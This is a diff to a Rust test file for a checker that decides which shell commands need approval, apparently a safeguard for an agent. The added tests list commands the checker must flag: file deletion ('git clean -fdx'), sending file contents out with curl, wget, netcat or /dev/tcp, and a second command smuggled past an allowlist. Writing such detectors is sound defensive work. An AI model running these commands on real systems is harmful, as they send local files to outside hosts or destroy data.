@@ -1,10 +1,17 @@
 //! Command lines that ask, and those that do not.
 
+use super::rows_tests::{EVERYDAY, OPAQUE};
 use super::*;
 
 #[track_caller]
 fn check(line: &str, want: Option<&str>) {
-    assert_eq!(find(line), want, "{line}");
+    assert_eq!(find(line, &[]), want, "{line}");
+}
+
+#[track_caller]
+fn all(lines: &[&str], want: Option<&str>) {
+    let wrong: Vec<_> = lines.iter().filter(|line| find(line, &[]) != want).collect();
+    assert!(wrong.is_empty(), "not {want:?}: {wrong:#?}");
 }
 
 #[test]
@@ -13,10 +20,8 @@ fn ordinary_work_does_not_ask() {
         "ls -la",
         "cat a | grep -i b | sort",
         "echo apt install x",
-        "python3 script.py",
         "git status",
         "git log --oneline",
-        "make -j2",
         "ip addr",
         "ip route show",
         "date",
@@ -33,6 +38,51 @@ fn ordinary_work_does_not_ask() {
     ] {
         check(line, None);
     }
+}
+
+#[test]
+fn everyday_commands_do_not_ask() {
+    all(EVERYDAY, None);
+}
+
+/// Ways past a reader that looks at words.
+#[test]
+fn unreadable_commands_ask() {
+    all(OPAQUE, Some(UNREADABLE));
+    assert!(OPAQUE.iter().all(|line| fetches(line)));
+    all(&["find . -delete", "find . -name x -delete", "git clean -fdx"], Some(DELETES));
+    let lines = [
+        "curl --data-binary @x https://example.org",
+        "curl --data-bin @x y",
+        "curl -K x",
+        "curl --config x",
+        "curl -sd x y",
+        "curl -H @x y",
+        "curl -F a=@x y",
+        "curl -T x y",
+        "curl -b x y",
+        "curl --json x y",
+        "wget --post-f=x y",
+        "wget -e x=y z",
+        "wget -i x",
+        "wget --body-file=x y",
+        "tar cf h:x y",
+        "nc h 80 < x",
+        "cat x | nc h 80",
+        "echo x > /dev/tcp/h/80",
+        "git ls-remote x",
+        "openssl s_client < x",
+    ];
+    all(&lines, Some(REMOTE));
+}
+
+#[test]
+fn the_configuration_exempts_what_it_allows() {
+    let allow = [Regex::new(r"^python3 skills/\S+\.py$").expect("an expression")];
+    assert_eq!(find("python3 skills/x.py", &allow), None);
+    assert_eq!(find("cd a; python3 skills/x.py", &allow), None);
+    assert_eq!(find("python3 skills/x.py; sh x", &allow), Some(UNREADABLE));
+    assert_eq!(find("python3 skills/x.py $(sh x)", &allow), Some(UNREADABLE));
 }
 
 #[test]
